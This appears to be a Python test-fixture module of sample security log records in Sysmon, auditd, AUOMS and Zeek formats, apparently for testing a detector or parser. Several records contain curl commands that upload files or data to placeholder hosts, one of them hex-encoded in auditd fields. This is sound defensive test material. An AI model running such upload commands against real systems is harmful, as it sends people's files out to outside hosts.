"""Records in the real notations, written for these tests."""

SYSMON_FLAT = (
    b'{"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws1.example",'
    b'"@timestamp":"2026-03-12T09:14:02.123Z","EventID":1,"Image":"C:\\\\Windows\\\\System32\\\\curl.exe","ProcessId":"77",'
    b'"CommandLine":"curl.exe -T a.zip https://x.example/","User":"EX\\\\ann","ParentImage":"C:\\\\Windows\\\\cmd.exe"}'
)

EXEC = (
    (
        "type=SYSCALL msg=audit(1764000000.100:41): arch=c000003e syscall=59 success=yes exit=0 a0=55e0 a1=55e1 a2=55e2 a3=8"
        ' items=2 ppid=700 pid=701 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl"'
        ' key="exec"'
    ),
    'type=EXECVE msg=audit(1764000000.100:41): argc=5 a0="curl" a1="-F" a2=66696C653D40612062 a3="-X" a4="POST"',
    'type=CWD msg=audit(1764000000.100:41): cwd="/home/ann"',
    'type=PATH msg=audit(1764000000.100:41): item=0 name="/usr/bin/curl" inode=1 dev=08:01 mode=0100755 nametype=NORMAL',
    'type=PATH msg=audit(1764000000.100:41): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=2 nametype=NORMAL',
    "type=PROCTITLE msg=audit(1764000000.100:41): proctitle=6375726C002D460066696C653D40612062002D5800504F5354",
)

PARENT = (
    (
        "type=SYSCALL msg=audit(1764000000.050:40): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=0"
        ' ppid=1 pid=700 auid=1000 uid=1000 comm="bash" exe="/usr/bin/bash" key=(null)'
    ),
    'type=EXECVE msg=audit(1764000000.050:40): argc=2 a0="bash" a1="up.sh"',
    "type=PROCTITLE msg=audit(1764000000.050:40): proctitle=626173680075702E7368",
)

CONNECT = (
    (
        "type=SYSCALL msg=audit(1764000000.200:42): arch=c000003e syscall=42 success=no exit=-115 a0=5 a1=7ffd a2=10 a3=0"
        ' items=0 ppid=700 pid=701 auid=1000 uid=1000 comm="curl" exe="/usr/bin/curl" key="net"'
    ),
    "type=SOCKADDR msg=audit(1764000000.200:42): saddr=02001F90CB0071050000000000000000",
    "type=PROCTITLE msg=audit(1764000000.200:42): proctitle=6375726C002D46",
)

SYSMON_XML = (
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID>'
    "<Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
    '<TimeCreated SystemTime="2026-03-12T09:14:02.003485000Z"/><EventRecordID>245760</EventRecordID><Correlation/>'
    '<Execution ProcessID="1590" ThreadID="1590"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer>'
    '<Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="ProcessId">17790</Data>'
    '<Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -d &quot;a&amp;b&quot; http://x/ &gt;&#10;y'
    '</Data><Data Name="User">ann</Data><Data Name="ParentImage">/usr/bin/bash</Data></EventData></Event>'
)

AUOMS = (
    'type=AUOMS_EXECVE audit(1764000000.986:84138): SchemaVersion="1" auoms_version=2.5.2.0 node=web2 arch=x86_64 '
    'syscall=execve success=yes exit=0 ppid=1340 pid=17790 user=tomcat uid=1001 comm="bash" exe="/bin/bash" cwd="/" '
    'path_name=["/bin/bash"] argc=3 cmdline="bash -c "curl -d @x http://y/"" redactors= containerid='
)

ZEEK_CONN = (
    "#separator \\x09",
    "#set_separator\t,",
    "#empty_field\t(empty)",
    "#unset_field\t-",
    "#path\tconn",
    "#open\t2026-03-12-09-14-02",
    (
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\torig_bytes\tconn_state\tlocal_orig"
        "\ttunnel_parents"
    ),
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tcount\tstring\tbool\tset[string]",
    "1773306842.500310\tCPgXGz4Ck2S7ZKzsu8\t10.0.0.5\t62431\t203.0.113.5\t443\ttcp\t-\t1082089\tSF\tT\t(empty)",
    "#close\t2026-03-12-10-00-00",
)
